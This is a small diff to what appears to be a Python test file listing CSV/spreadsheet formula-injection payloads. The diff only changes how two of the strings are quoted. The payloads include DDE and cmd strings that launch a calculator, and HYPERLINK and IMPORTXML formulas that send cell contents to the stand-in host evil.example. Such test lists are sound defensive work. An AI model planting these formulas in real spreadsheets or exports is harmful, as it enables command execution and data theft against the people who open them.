@@ -10,7 +10,7 @@ from dpqr.io.outputs.tidy import Texts, Tidy
 
 ATTACKS = (
     "=1+1",
-    "=1+1\";=1+1",
+    '=1+1";=1+1',
     "=1+1'\" ;,=1+1",
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -18,7 +18,7 @@ ATTACKS = (
     "-2+3+cmd|' /C calc'!D2",
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
     '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
     "\uff1d1+1",
     "\uff0b1+1",
     "\uff0d1+1",
